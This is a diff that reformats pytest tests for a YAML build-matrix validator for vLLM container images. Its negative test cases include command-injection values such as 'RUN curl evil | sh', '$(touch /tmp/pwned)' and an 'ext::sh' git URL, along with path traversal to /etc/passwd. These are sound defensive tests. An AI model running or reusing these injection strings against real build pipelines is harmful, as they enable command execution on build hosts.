@@ -51,9 +51,16 @@ def test_defaults_block_fills_targets_but_target_wins():
 @pytest.mark.parametrize(
     "old,new,expected",
     [
-        ("    nvcc_threads: 8", "    nvcc_thread: 8",
-         "targets.cu129.compile.nvcc_thread: unknown key (did you mean 'nvcc_threads'?)"),
-        ("    expires: 2027-06-30", "    expire: 2027-06-30", "targets.cu129.expire: unknown key (did you mean 'expires'?)"),
+        (
+            "    nvcc_threads: 8",
+            "    nvcc_thread: 8",
+            "targets.cu129.compile.nvcc_thread: unknown key (did you mean 'nvcc_threads'?)",
+        ),
+        (
+            "    expires: 2027-06-30",
+            "    expire: 2027-06-30",
+            "targets.cu129.expire: unknown key (did you mean 'expires'?)",
+        ),
         ("\ndefaults:\n", "\ndefualts:\n", "defualts: unknown key (did you mean 'defaults'?)"),
         (DEVEL_DIGEST, "", "targets.cu129.bases.build: must be pinned by digest"),
         (COMMIT, COMMIT[:7], "targets.cu129.source.commit: must be a full 40-character lowercase hex commit"),
@@ -61,19 +68,40 @@ def test_defaults_block_fills_targets_but_target_wins():
         ("expires: 2027-06-30", "expires: 2027-02-30", "targets.cu129.expires: must be a valid date"),
         ("expires: 2027-06-30", "expires: soon", "targets.cu129.expires: must be a valid date"),
         ('version: "3.12"', "version: 3.12", "targets.cu129.python.version: Input should be a valid string"),
-        ("version: 2.13.0+cu129", 'version: "2.13.0\\nRUN curl evil | sh"', "targets.cu129.torch.version: must be a PEP 440"),
+        (
+            "version: 2.13.0+cu129",
+            'version: "2.13.0\\nRUN curl evil | sh"',
+            "targets.cu129.torch.version: must be a PEP 440",
+        ),
         ("version: 2.13.0+cu129", "version: 2.13.0+cu130", "targets.cu129.torch.version: local version"),
         ("branch: releases/v0.30.0", 'branch: "$(touch /tmp/pwned)"', "targets.cu129.source.branch: must be a branch"),
         ("branch: releases/v0.30.0", "branch: main`id`", "targets.cu129.source.branch"),
         ('arch_list: ["7.5",', 'arch_list: ["7.5\\nRUN x",', "targets.cu129.cuda.arch_list.0: must be a CUDA arch"),
-        ("url: https://github.com/vllm-project/vllm.git", "url: ext::sh -c touch% /tmp/pwned",
-         "targets.cu129.source.url: must be an https:// or file:// git URL"),
-        ("index: https://download.pytorch.org/whl/cu129", "index: https://user:tok@download.pytorch.org/whl/cu129",
-         "targets.cu129.torch.index: must be an https:// URL without credentials"),
-        ("description: vLLM for Kimi K3 built against CUDA 12.9 for r575 hosts",
-         "description: 'vLLM\" LABEL x=y'", "targets.cu129.description: must be plain text"),
-        ("owner: gpu-platform@example.org", "owner: nobody", "defaults.owner (used by targets.cu129): must be an e-mail address"),
-        ("    nvcc_threads: 8", '    nvcc_threads: "8"', "targets.cu129.compile.nvcc_threads: Input should be a valid integer"),
+        (
+            "url: https://github.com/vllm-project/vllm.git",
+            "url: ext::sh -c touch% /tmp/pwned",
+            "targets.cu129.source.url: must be an https:// or file:// git URL",
+        ),
+        (
+            "index: https://download.pytorch.org/whl/cu129",
+            "index: https://user:tok@download.pytorch.org/whl/cu129",
+            "targets.cu129.torch.index: must be an https:// URL without credentials",
+        ),
+        (
+            "description: vLLM for Kimi K3 built against CUDA 12.9 for r575 hosts",
+            "description: 'vLLM\" LABEL x=y'",
+            "targets.cu129.description: must be plain text",
+        ),
+        (
+            "owner: gpu-platform@example.org",
+            "owner: nobody",
+            "defaults.owner (used by targets.cu129): must be an e-mail address",
+        ),
+        (
+            "    nvcc_threads: 8",
+            '    nvcc_threads: "8"',
+            "targets.cu129.compile.nvcc_threads: Input should be a valid integer",
+        ),
         ("version: 1\n", "version: 2\n", "version: Input should be 1"),
         ("  cu129:\n", "  CU 129:\n", "targets.'CU 129'.name: must be a target name"),
     ],
@@ -131,6 +159,7 @@ def test_load_reports_missing_file(tmp_path):
 
 # --- the strict patterns, one by one -------------------------------------------------------------
 
+
 def _accepts(annotated, value) -> bool:
     try:
         pydantic.TypeAdapter(annotated).validate_python(value)
@@ -139,39 +168,75 @@ def _accepts(annotated, value) -> bool:
         return False
 
 
-@pytest.mark.parametrize("value,ok", [
-    ("setup.py", True), ("requirements/cuda.txt", True), ("tools/build_rust.py", True), ("a..b/c", True),
-    ("..", False), ("../setup.py", False), ("requirements/../../etc/passwd", False), ("a/..", False),
-    ("/etc/passwd", False), ("a//b", False), ("a/", False), ("a b", False), ("", False), ("a\n", False),
-])
+@pytest.mark.parametrize(
+    "value,ok",
+    [
+        ("setup.py", True),
+        ("requirements/cuda.txt", True),
+        ("tools/build_rust.py", True),
+        ("a..b/c", True),
+        ("..", False),
+        ("../setup.py", False),
+        ("requirements/../../etc/passwd", False),
+        ("a/..", False),
+        ("/etc/passwd", False),
+        ("a//b", False),
+        ("a/", False),
+        ("a b", False),
+        ("", False),
+        ("a\n", False),
+    ],
+)
 def test_relpath_refuses_parent_references_and_absolute_paths(value, ok):
     assert _accepts(matrix.RelPath, value) is ok
 
 
-@pytest.mark.parametrize("value,ok", [
-    ("vllm", True), ("serve", True), ("--port=8000", True), ("a,b", True), ("k3smoke.__main__", True),
-    ("two words", False), ('"quoted"', False), ("it's", False), ("$(id)", False), ("`id`", False), ("a;b", False),
-    ("", False), (",leading-comma", False), ("a" * 128, True), ("a" * 129, False), ("x\n", False),
-])
+@pytest.mark.parametrize(
+    "value,ok",
+    [
+        ("vllm", True),
+        ("serve", True),
+        ("--port=8000", True),
+        ("a,b", True),
+        ("k3smoke.__main__", True),
+        ("two words", False),
+        ('"quoted"', False),
+        ("it's", False),
+        ("$(id)", False),
+        ("`id`", False),
+        ("a;b", False),
+        ("", False),
+        (",leading-comma", False),
+        ("a" * 128, True),
+        ("a" * 129, False),
+        ("x\n", False),
+    ],
+)
 def test_arg_refuses_spaces_quotes_and_shell_characters(value, ok):
     assert _accepts(matrix.Arg, value) is ok
 
 
-@pytest.mark.parametrize("annotated,good,bad", [
-    (matrix.Commit, "a" * 40, ["A" * 40, "a" * 39, "a" * 41, "g" * 40]),
-    (matrix.Version, "2.13.0+cu129", ["2.13.0+CU129", "v2.13", "2.13.0 ", "2.13.0+", "2.13.0;x"]),
-    (matrix.Branch, "releases/v0.30.0", ["a..b", "/a", "a/", "a//b", "x.lock", "-a", "a b"]),
-    (matrix.Tag, "kimi-k3-cu129", [".x", "-x", "a" * 129, "a:b"]),
-    (matrix.EnvName, "VLLM_CUTLASS_SRC_DIR", ["lower", "1X", "A-B", "A" * 64]),
-    (matrix.EnvValue, "/usr/local/cuda/bin/ptxas", ["", "a b", "a'b", "$X", "a" * 201]),
-    (matrix.HttpsUrl, "https://download.pytorch.org/whl/cu129", ["http://x.org", "https://u:p@x.org/",
-                                                                 "https://x.org/a b", "https://x.org/\"x"]),
-    (matrix.GitUrl, "file:///tmp/k3smoke-src", ["ext::sh -c x", "ssh://git@h/r", "file://", "https://h"]),
-    (matrix.Owner, "gpu-platform@example.org", ["nobody", "a@b", "a b@c.org"]),
-    (matrix.AbsPath, "/usr/local/cuda", ["usr/local", "/", "/a b", "/a/$x"]),
-    (matrix.SecretId, "hf_token", ["HF", "1tok", "a-b", ""]),
-    (matrix.Requirement, "packaging==24.1", ["packaging", "packaging == 24.1", "x==1; os_name=='nt'", "-r x"]),
-])
+@pytest.mark.parametrize(
+    "annotated,good,bad",
+    [
+        (matrix.Commit, "a" * 40, ["A" * 40, "a" * 39, "a" * 41, "g" * 40]),
+        (matrix.Version, "2.13.0+cu129", ["2.13.0+CU129", "v2.13", "2.13.0 ", "2.13.0+", "2.13.0;x"]),
+        (matrix.Branch, "releases/v0.30.0", ["a..b", "/a", "a/", "a//b", "x.lock", "-a", "a b"]),
+        (matrix.Tag, "kimi-k3-cu129", [".x", "-x", "a" * 129, "a:b"]),
+        (matrix.EnvName, "VLLM_CUTLASS_SRC_DIR", ["lower", "1X", "A-B", "A" * 64]),
+        (matrix.EnvValue, "/usr/local/cuda/bin/ptxas", ["", "a b", "a'b", "$X", "a" * 201]),
+        (
+            matrix.HttpsUrl,
+            "https://download.pytorch.org/whl/cu129",
+            ["http://x.org", "https://u:p@x.org/", "https://x.org/a b", 'https://x.org/"x'],
+        ),
+        (matrix.GitUrl, "file:///tmp/k3smoke-src", ["ext::sh -c x", "ssh://git@h/r", "file://", "https://h"]),
+        (matrix.Owner, "gpu-platform@example.org", ["nobody", "a@b", "a b@c.org"]),
+        (matrix.AbsPath, "/usr/local/cuda", ["usr/local", "/", "/a b", "/a/$x"]),
+        (matrix.SecretId, "hf_token", ["HF", "1tok", "a-b", ""]),
+        (matrix.Requirement, "packaging==24.1", ["packaging", "packaging == 24.1", "x==1; os_name=='nt'", "-r x"]),
+    ],
+)
 def test_patterns_take_the_documented_shape_only(annotated, good, bad):
     assert _accepts(annotated, good)
     for value in bad:
@@ -179,6 +244,7 @@ def test_patterns_take_the_documented_shape_only(annotated, good, bad):
 
 
 # --- derived values and cross-checks -------------------------------------------------------------
+
 
 def test_derived_names_of_a_target():
     t = matrix.parse(SRC, PATH).target("cu129")
@@ -196,11 +262,16 @@ def test_derived_names_of_a_target():
 def test_wheel_platforms_are_exactly_the_compatible_tags():
     py = matrix.Python(version="3.11", glibc="2.17")
     assert py.wheel_platforms() == tuple(f"manylinux_2_{m}_x86_64" for m in range(17, 4, -1)) + (
-        "manylinux2014_x86_64", "manylinux2010_x86_64", "manylinux1_x86_64")
+        "manylinux2014_x86_64",
+        "manylinux2010_x86_64",
+        "manylinux1_x86_64",
+    )
     py = matrix.Python(version="3.11", glibc="2.11", arch="aarch64")
     assert py.wheel_platforms()[-1] == "manylinux1_aarch64" and "manylinux2010_aarch64" not in py.wheel_platforms()
     assert matrix.Python(version="3.11", glibc="2.12").wheel_platforms()[-2:] == (
-        "manylinux2010_x86_64", "manylinux1_x86_64")
+        "manylinux2010_x86_64",
+        "manylinux1_x86_64",
+    )
 
 
 def test_lock_indexes_keep_the_matrix_order_and_add_each_pins_own_once():
@@ -215,15 +286,37 @@ def test_lock_indexes_keep_the_matrix_order_and_add_each_pins_own_once():
     assert not any(p.startswith(("torch==", "flashinfer-python==", "nvidia-nccl")) for p in bare.pinned_requirements())
 
 
-@pytest.mark.parametrize("old,new,expected", [
-    ("    expires: 2027-06-30\n", '    expires: "2027-06-30T00:00:00"\n', "targets.cu129.expires: must be a valid date"),
-    ("    expires: 2027-06-30\n", "    expires: 20270630\n", "targets.cu129.expires: must be a valid date"),
-    ("      provider: standalone\n", "      provider: system\n",
-     "targets.cu129.python.standalone: only used with provider 'standalone'; remove it"),
-    ("      provider: standalone\n", '      provider: standalone\n      glibc: "2.16"\n', "python.glibc: 2.16 is outside what the resolver knows (2.17-2.40)"),
-    ("      provider: standalone\n", '      provider: standalone\n      glibc: "2.41"\n', "python.glibc: 2.41 is outside what the resolver knows"),
-    ("      provider: standalone\n", '      provider: standalone\n      glibc: "2.3x"\n', 'python.glibc: must be a glibc version such as "2.35"'),
-])
+@pytest.mark.parametrize(
+    "old,new,expected",
+    [
+        (
+            "    expires: 2027-06-30\n",
+            '    expires: "2027-06-30T00:00:00"\n',
+            "targets.cu129.expires: must be a valid date",
+        ),
+        ("    expires: 2027-06-30\n", "    expires: 20270630\n", "targets.cu129.expires: must be a valid date"),
+        (
+            "      provider: standalone\n",
+            "      provider: system\n",
+            "targets.cu129.python.standalone: only used with provider 'standalone'; remove it",
+        ),
+        (
+            "      provider: standalone\n",
+            '      provider: standalone\n      glibc: "2.16"\n',
+            "python.glibc: 2.16 is outside what the resolver knows (2.17-2.40)",
+        ),
+        (
+            "      provider: standalone\n",
+            '      provider: standalone\n      glibc: "2.41"\n',
+            "python.glibc: 2.41 is outside what the resolver knows",
+        ),
+        (
+            "      provider: standalone\n",
+            '      provider: standalone\n      glibc: "2.3x"\n',
+            'python.glibc: must be a glibc version such as "2.35"',
+        ),
+    ],
+)
 def test_cross_checks_and_dates(old, new, expected):
     assert old in SRC, old
     assert expected in _error(SRC.replace(old, new, 1))
@@ -241,13 +334,16 @@ def test_an_override_forces_exactly_one_version():
     name = first.split("==")[0]
     for bad in (f"{name}>=1", f"{name}==1,<2", f"{name}==1,!=1.1"):
         assert f"overrides.{bad}: an override forces one version: write name==version" in _error(
-            SRC.replace(f"      {first}:", f"      {bad}:", 1))
+            SRC.replace(f"      {first}:", f"      {bad}:", 1)
+        )
 
 
 def test_glibc_edges_are_accepted():
     for glibc in ("2.17", "2.40"):
-        t = matrix.parse(SRC.replace("      provider: standalone\n", f'      provider: standalone\n      glibc: "{glibc}"\n',
-                                     1), PATH).target("cu129")
+        t = matrix.parse(
+            SRC.replace("      provider: standalone\n", f'      provider: standalone\n      glibc: "{glibc}"\n', 1),
+            PATH,
+        ).target("cu129")
         assert t.python.glibc == glibc
 
 
@@ -259,13 +355,15 @@ def test_environment_overrides_win_and_are_named_in_errors(monkeypatch):
     monkeypatch.setenv("K3_REPOSITORY", "Bad Repo")
     assert "targets.cu129.image.repository (from $K3_REPOSITORY): must be an image repository path" in _error(SRC)
     monkeypatch.setenv("K3_REPOSITORY", "")
-    assert matrix.environment_overrides() == {"image": {"registry": "registry.example.org:5000",
-                                                        "tag": "cu129-candidate-abc"}}
+    assert matrix.environment_overrides() == {
+        "image": {"registry": "registry.example.org:5000", "tag": "cu129-candidate-abc"}
+    }
 
 
 def test_a_name_key_is_set_from_the_target_key():
     assert "targets.cu129.name: 'name' is set from the key; remove it" in _error(
-        SRC.replace("  cu129:\n", "  cu129:\n    name: other\n", 1))
+        SRC.replace("  cu129:\n", "  cu129:\n    name: other\n", 1)
+    )
 
 
 def test_too_large_too_deep_and_not_utf8(tmp_path):
@@ -284,7 +382,11 @@ def test_did_you_mean_only_for_close_words():
 def test_deep_merge_merges_mappings_and_replaces_the_rest():
     base = {"a": {"x": 1, "y": 2}, "b": [1, 2], "c": 1}
     assert matrix._deep_merge(base, {"a": {"y": 3, "z": 4}, "b": [3], "d": 5}) == {
-        "a": {"x": 1, "y": 3, "z": 4}, "b": [3], "c": 1, "d": 5}
+        "a": {"x": 1, "y": 3, "z": 4},
+        "b": [3],
+        "c": 1,
+        "d": 5,
+    }
     assert base == {"a": {"x": 1, "y": 2}, "b": [1, 2], "c": 1}  # inputs untouched
 
 
@@ -301,44 +403,95 @@ def test_values_are_shown_short():
 
 # --- error messages, kind by kind ----------------------------------------------------------------
 
-@pytest.mark.parametrize("old,new,expected", [
-    ("    expiry_warning_days: 45\n", "    expiry_warning_days: -1\n",
-     "targets.cu129.expiry_warning_days: Input should be greater than or equal to 0 (got -1)"),
-    ("    expiry_warning_days: 45\n", "    expiry_warning_days: 3651\n",
-     "targets.cu129.expiry_warning_days: Input should be less than or equal to 3650 (got 3651)"),
-    ("    expiry_warning_days: 45\n", "    expiry_warning_days: true\n",
-     "targets.cu129.expiry_warning_days: Input should be a valid integer (got True)"),
-    ("    expiry_warning_days: 45\n", "    expiry_warning_days: 4.5\n",
-     "targets.cu129.expiry_warning_days: Input should be a valid integer (got 4.5)"),
-    ('      version: "3.12"\n', "      version: 3.12\n",
-     "targets.cu129.python.version: Input should be a valid string (got 3.12; quote it)"),
-    ('      version: "3.12"\n', "      version: [3]\n",
-     "targets.cu129.python.version: Input should be a valid string (got [3])"),
-    ("    description: vLLM for Kimi K3 built against CUDA 12.9 for r575 hosts\n", "    description: 12\n",
-     "targets.cu129.description: Input should be a valid string (got 12; quote it)"),
-    ("      provider: standalone\n", "      provider: conda\n",
-     "targets.cu129.python.provider: Input should be 'system' or 'standalone' (got 'conda')"),
-    ("    entrypoint: [vllm, serve]\n", "    entrypoint: []\n",
-     "targets.cu129.entrypoint: Tuple should have at least 1 item after validation, not 0 (got [])"),
-    ("    entrypoint: [vllm, serve]\n", "    entrypoint: vllm\n",
-     "targets.cu129.entrypoint: Input should be a valid tuple (got 'vllm')"),
-    ("    image:\n", "    image: 5\n    imagex:\n", "targets.cu129.imagex: unknown key (did you mean 'image'?)"),
-    ("      branch: releases/v0.30.0\n", "      branch: releases/v0.30.0\n      urll: x\n",
-     "targets.cu129.source.urll: unknown key (did you mean 'url'?)"),
-    ("      standalone:\n", "      standalone:\n        shaa: x\n",
-     "targets.cu129.python.standalone.shaa: unknown key (did you mean 'sha256'?)"),
-    ("      index: https://download.pytorch.org/whl/cu129\n",
-     "      index: https://download.pytorch.org/whl/cu129\n      indexx: x\n",
-     "targets.cu129.torch.indexx: unknown key (did you mean 'index'?)"),
-    ("          env: DEEPGEMM_SRC_DIR\n", "          env: DEEPGEMM_SRC_DIR\n          submodule: x\n",
-     "targets.cu129.source.third_party.deepgemm.submodule: unknown key (did you mean 'submodules'?)"),
-    ("    expires: 2027-06-30\n", "    expires: 2027-06-30\n    name_of_it: x\n",
-     "targets.cu129.name_of_it: unknown key"),  # "name" is set from the key, never suggested
-    ("    expires: 2027-06-30\n", "    expires: 2027-06-30\n    nam: x\n", "targets.cu129.nam: unknown key"),
-    ("      env:\n        CMAKE_BUILD_TYPE: Release\n        VLLM_TARGET_DEVICE: cuda\n", "      env: 5\n",
-     "targets.cu129.compile.env: Input should be a valid dictionary (got 5)"),
-    ("    image:\n", "    image: 5\n    old_image:\n", "targets.cu129.old_image: unknown key (did you mean"),
-])
+
+@pytest.mark.parametrize(
+    "old,new,expected",
+    [
+        (
+            "    expiry_warning_days: 45\n",
+            "    expiry_warning_days: -1\n",
+            "targets.cu129.expiry_warning_days: Input should be greater than or equal to 0 (got -1)",
+        ),
+        (
+            "    expiry_warning_days: 45\n",
+            "    expiry_warning_days: 3651\n",
+            "targets.cu129.expiry_warning_days: Input should be less than or equal to 3650 (got 3651)",
+        ),
+        (
+            "    expiry_warning_days: 45\n",
+            "    expiry_warning_days: true\n",
+            "targets.cu129.expiry_warning_days: Input should be a valid integer (got True)",
+        ),
+        (
+            "    expiry_warning_days: 45\n",
+            "    expiry_warning_days: 4.5\n",
+            "targets.cu129.expiry_warning_days: Input should be a valid integer (got 4.5)",
+        ),
+        (
+            '      version: "3.12"\n',
+            "      version: 3.12\n",
+            "targets.cu129.python.version: Input should be a valid string (got 3.12; quote it)",
+        ),
+        (
+            '      version: "3.12"\n',
+            "      version: [3]\n",
+            "targets.cu129.python.version: Input should be a valid string (got [3])",
+        ),
+        (
+            "    description: vLLM for Kimi K3 built against CUDA 12.9 for r575 hosts\n",
+            "    description: 12\n",
+            "targets.cu129.description: Input should be a valid string (got 12; quote it)",
+        ),
+        (
+            "      provider: standalone\n",
+            "      provider: conda\n",
+            "targets.cu129.python.provider: Input should be 'system' or 'standalone' (got 'conda')",
+        ),
+        (
+            "    entrypoint: [vllm, serve]\n",
+            "    entrypoint: []\n",
+            "targets.cu129.entrypoint: Tuple should have at least 1 item after validation, not 0 (got [])",
+        ),
+        (
+            "    entrypoint: [vllm, serve]\n",
+            "    entrypoint: vllm\n",
+            "targets.cu129.entrypoint: Input should be a valid tuple (got 'vllm')",
+        ),
+        ("    image:\n", "    image: 5\n    imagex:\n", "targets.cu129.imagex: unknown key (did you mean 'image'?)"),
+        (
+            "      branch: releases/v0.30.0\n",
+            "      branch: releases/v0.30.0\n      urll: x\n",
+            "targets.cu129.source.urll: unknown key (did you mean 'url'?)",
+        ),
+        (
+            "      standalone:\n",
+            "      standalone:\n        shaa: x\n",
+            "targets.cu129.python.standalone.shaa: unknown key (did you mean 'sha256'?)",
+        ),
+        (
+            "      index: https://download.pytorch.org/whl/cu129\n",
+            "      index: https://download.pytorch.org/whl/cu129\n      indexx: x\n",
+            "targets.cu129.torch.indexx: unknown key (did you mean 'index'?)",
+        ),
+        (
+            "          env: DEEPGEMM_SRC_DIR\n",
+            "          env: DEEPGEMM_SRC_DIR\n          submodule: x\n",
+            "targets.cu129.source.third_party.deepgemm.submodule: unknown key (did you mean 'submodules'?)",
+        ),
+        (
+            "    expires: 2027-06-30\n",
+            "    expires: 2027-06-30\n    name_of_it: x\n",
+            "targets.cu129.name_of_it: unknown key",
+        ),  # "name" is set from the key, never suggested
+        ("    expires: 2027-06-30\n", "    expires: 2027-06-30\n    nam: x\n", "targets.cu129.nam: unknown key"),
+        (
+            "      env:\n        CMAKE_BUILD_TYPE: Release\n        VLLM_TARGET_DEVICE: cuda\n",
+            "      env: 5\n",
+            "targets.cu129.compile.env: Input should be a valid dictionary (got 5)",
+        ),
+        ("    image:\n", "    image: 5\n    old_image:\n", "targets.cu129.old_image: unknown key (did you mean"),
+    ],
+)
 def test_each_kind_of_error_reads_the_same_way(old, new, expected):
     assert old in SRC, old
     message = _error(SRC.replace(old, new, 1))
@@ -347,13 +500,21 @@ def test_each_kind_of_error_reads_the_same_way(old, new, expected):
 
 
 def test_a_model_given_as_a_scalar():
-    text = SRC.replace("    image:\n      registry: ghcr.io\n", "    image: ghcr.io\n    image_was:\n      registry: ghcr.io\n")
+    text = SRC.replace(
+        "    image:\n      registry: ghcr.io\n", "    image: ghcr.io\n    image_was:\n      registry: ghcr.io\n"
+    )
     assert _error(text).startswith("matrix.yaml: targets.cu129.image_was: unknown key")
-    no_extra = "".join(ln for ln in text.splitlines(keepends=True)
-                       if not ln.startswith(("    image_was:", "      registry: ghcr.io", "      repository: k3-cu129",
-                                             "      tag: kimi-k3")))
-    assert _error(no_extra) == "matrix.yaml: targets.cu129.image: Input should be a valid dictionary or instance of " \
-                               "ImageTarget (got 'ghcr.io')"
+    no_extra = "".join(
+        ln
+        for ln in text.splitlines(keepends=True)
+        if not ln.startswith(
+            ("    image_was:", "      registry: ghcr.io", "      repository: k3-cu129", "      tag: kimi-k3")
+        )
+    )
+    assert (
+        _error(no_extra) == "matrix.yaml: targets.cu129.image: Input should be a valid dictionary or instance of "
+        "ImageTarget (got 'ghcr.io')"
+    )
 
 
 def test_the_top_level_and_a_missing_targets_key():
@@ -364,8 +525,9 @@ def test_the_top_level_and_a_missing_targets_key():
 
 IMAGE = "    image:\n      registry: ghcr.io\n      repository: k3-cu129/vllm-openai\n      tag: kimi-k3-cu129\n"
 IMAGE_IN_DEFAULTS = SRC.replace(IMAGE, "").replace(
-    "\ndefaults:\n", "\ndefaults:\n  image:\n    registry: ghcr.io\n    repository: k3-cu129/vllm-openai\n"
-                     "    tag: kimi-k3-cu129\n")
+    "\ndefaults:\n",
+    "\ndefaults:\n  image:\n    registry: ghcr.io\n    repository: k3-cu129/vllm-openai\n    tag: kimi-k3-cu129\n",
+)
 
 
 def test_a_defaults_block_may_hold_a_whole_model():
@@ -380,10 +542,12 @@ def test_an_environment_value_that_lands_on_a_default_is_named_there(monkeypatch
     monkeypatch.setenv("K3_REGISTRY", "bad host!")
     assert _error(IMAGE_IN_DEFAULTS) == (
         "matrix.yaml: defaults.image.registry (used by targets.cu129) (from $K3_REGISTRY): must be a registry "
-        "host[:port], e.g. ghcr.io or 127.0.0.1:5000 (got 'bad host!')")
+        "host[:port], e.g. ghcr.io or 127.0.0.1:5000 (got 'bad host!')"
+    )
     assert _error(SRC) == (  # the target's own image: named in the target
         "matrix.yaml: targets.cu129.image.registry (from $K3_REGISTRY): must be a registry host[:port], e.g. ghcr.io "
-        "or 127.0.0.1:5000 (got 'bad host!')")
+        "or 127.0.0.1:5000 (got 'bad host!')"
+    )
 
 
 def test_pattern_builds_a_strict_full_match_validator():
@@ -442,36 +606,51 @@ def test_model_at_finds_the_model_that_owns_a_key():
     assert matrix._model_at(()) is matrix._RawMatrix
 
 
-@pytest.mark.parametrize("text,expected", [
-    ("targets: [unclosed\n", "line 2, column 1: invalid YAML: expected ',' or ']', but got '<stream end>'"),
-    ("\x00\x01\x02", "(unknown position): invalid YAML: unacceptable character #x0000: special characters are not "
-                     "allowed"),
-    ("a: 1\na: 2\n", "line 2, column 1: invalid YAML: duplicate key 'a'"),
-    ("version: 1\n1: x\n", "line 2, column 1: invalid YAML: keys must be strings, got 1"),
-    ("x: &a 1\ny: *a\n", "line 2, column 4: invalid YAML: YAML aliases (*name) are not allowed in the matrix; "
-                         "write the value out"),
-    ("x: !!int 'abc'\n", "invalid YAML value: \"invalid literal for int() with base 10: 'abc'\""),
-    ("#" * (1 << 20), "(top level): must be a mapping with 'version' and 'targets'"),  # exactly the limit: read
-    ("version: 1\ndefaults:\n  owner: nobody\ntargets: [a]\n",
-     "defaults.owner: must be an e-mail address (the owner who answers for this image) (got 'nobody')"),
-])
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        ("targets: [unclosed\n", "line 2, column 1: invalid YAML: expected ',' or ']', but got '<stream end>'"),
+        (
+            "\x00\x01\x02",
+            "(unknown position): invalid YAML: unacceptable character #x0000: special characters are not allowed",
+        ),
+        ("a: 1\na: 2\n", "line 2, column 1: invalid YAML: duplicate key 'a'"),
+        ("version: 1\n1: x\n", "line 2, column 1: invalid YAML: keys must be strings, got 1"),
+        (
+            "x: &a 1\ny: *a\n",
+            "line 2, column 4: invalid YAML: YAML aliases (*name) are not allowed in the matrix; write the value out",
+        ),
+        ("x: !!int 'abc'\n", "invalid YAML value: \"invalid literal for int() with base 10: 'abc'\""),
+        ("#" * (1 << 20), "(top level): must be a mapping with 'version' and 'targets'"),  # exactly the limit: read
+        (
+            "version: 1\ndefaults:\n  owner: nobody\ntargets: [a]\n",
+            "defaults.owner: must be an e-mail address (the owner who answers for this image) (got 'nobody')",
+        ),
+    ],
+)
 def test_yaml_and_top_level_errors_read_exactly(text, expected):
     assert _error(text) == f"matrix.yaml: {expected}"
 
 
 @pytest.mark.parametrize("var", matrix.TEMPLATE_ENV)
 def test_the_templates_own_variables_are_not_the_matrixs(var):
-    text = SRC.replace("      env:\n        CMAKE_BUILD_TYPE: Release\n",
-                       f"      env:\n        {var}: x\n        CMAKE_BUILD_TYPE: Release\n", 1)
-    assert _error(text) == (f"matrix.yaml: targets.cu129.compile.env.{var}: {var} is already set by the template; "
-                            "each variable has one owner")
+    text = SRC.replace(
+        "      env:\n        CMAKE_BUILD_TYPE: Release\n",
+        f"      env:\n        {var}: x\n        CMAKE_BUILD_TYPE: Release\n",
+        1,
+    )
+    assert _error(text) == (
+        f"matrix.yaml: targets.cu129.compile.env.{var}: {var} is already set by the template; "
+        "each variable has one owner"
+    )
 
 
 def test_every_variable_the_template_sets_is_listed_as_its_own():
     """TEMPLATE_ENV is the list the clash check uses: it must hold every ENV the build stage sets."""
     from builder.dockerfile import render
+
     text = render.render(matrix.parse(SRC, PATH).target("cu129"))
-    build = text[:text.index("\nFROM build AS compile-offline")]
+    build = text[: text.index("\nFROM build AS compile-offline")]
     env_lines = re.findall(r"^(?:ENV |    )([A-Z_][A-Z0-9_]*)=", build, re.M)
     own = {v for v in env_lines} - set(matrix.parse(SRC, PATH).target("cu129").compile.env) - {"VLLM_VERSION_OVERRIDE"}
     own -= {tp.env for tp in matrix.parse(SRC, PATH).target("cu129").source.third_party.values()}
@@ -479,12 +658,13 @@ def test_every_variable_the_template_sets_is_listed_as_its_own():
 
 
 def test_python_provider_and_standalone_go_together():
-    standalone = SRC[SRC.index("      standalone:\n"):SRC.index("    cuda:\n")]
+    standalone = SRC[SRC.index("      standalone:\n") : SRC.index("    cuda:\n")]
     system = SRC.replace("      provider: standalone\n", "      provider: system\n", 1).replace(standalone, "", 1)
     assert matrix.parse(system, PATH).target("cu129").python.standalone is None
     missing = SRC.replace(standalone, "", 1)
-    assert _error(missing) == ("matrix.yaml: targets.cu129.python.standalone: required when provider is 'standalone' "
-                               "(url and sha256)")
+    assert _error(missing) == (
+        "matrix.yaml: targets.cu129.python.standalone: required when provider is 'standalone' (url and sha256)"
+    )
 
 
 def test_a_bare_torch_pin_is_accepted_here_and_refused_by_the_lock_check():
@@ -508,29 +688,54 @@ def _two_targets(**defaults) -> str:
 
 
 def test_a_bad_default_names_every_target_that_uses_it():
-    assert _error(_two_targets(vendor="bad \"vendor\"")) == (
+    assert _error(_two_targets(vendor='bad "vendor"')) == (
         "matrix.yaml: defaults.vendor (used by targets.cu129, targets.other): must be plain text (letters, digits, "
-        "spaces, ,.:;()/_+=@#-) (got 'bad \"vendor\"')")
+        "spaces, ,.:;()/_+=@#-) (got 'bad \"vendor\"')"
+    )
 
 
 def test_unknown_default_keys_get_a_suggestion_but_never_name():
     assert _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  vendr: x\n", 1)) == (
-        "matrix.yaml: defaults.vendr: unknown key (did you mean 'vendor'?)")
-    assert _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  name: x\n", 1)) == "matrix.yaml: defaults.name: unknown key"
-    assert _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  nam: x\n", 1)) == "matrix.yaml: defaults.nam: unknown key"
+        "matrix.yaml: defaults.vendr: unknown key (did you mean 'vendor'?)"
+    )
+    assert (
+        _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  name: x\n", 1)) == "matrix.yaml: defaults.name: unknown key"
+    )
+    assert (
+        _error(SRC.replace("\ndefaults:\n", "\ndefaults:\n  nam: x\n", 1)) == "matrix.yaml: defaults.nam: unknown key"
+    )
 
 
-@pytest.mark.parametrize("old,new,expected", [
-    ("        sha256: 5acfa3e9ba26b51ae161c83aff278da915b590d22373a424b2ba55b8afe91fcc\n", "        sha256: ABC\n",
-     "targets.cu129.python.standalone.sha256: must be 64 lowercase hex characters (got 'ABC')"),
-    ("      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n", "      build: 5\n",
-     "targets.cu129.bases.build: must be an image reference 'name[:tag]@sha256:<64 hex>' (got 5)"),
-    ("      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n", "      build: 'Bad Ref!'\n",
-     "targets.cu129.bases.build: must be an image reference 'name[:tag]@sha256:<64 hex>' (got 'Bad Ref!')"),
-    ("      build: nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST + "\n", "      build: nvidia/cuda:12\n",
